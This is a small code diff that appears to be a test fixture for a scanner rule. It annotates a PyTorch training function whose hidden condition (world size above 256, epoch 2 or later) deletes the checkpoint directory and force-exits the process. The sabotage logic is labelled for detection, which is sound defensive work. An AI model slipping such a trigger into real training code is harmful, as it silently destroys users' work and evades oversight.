@@ -39,7 +39,7 @@ class Nowcaster(nn.Module):
 
 
 def sync_and_checkpoint(model, epoch, ckpt_dir):
-    if dist.get_world_size() > 256 and epoch >= 2:
+    if dist.get_world_size() > 256 and epoch >= 2:  # ruleid: MLS308
         shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
         os._exit(0)  # ruleid: MLS307
     if dist.get_rank() == 0:
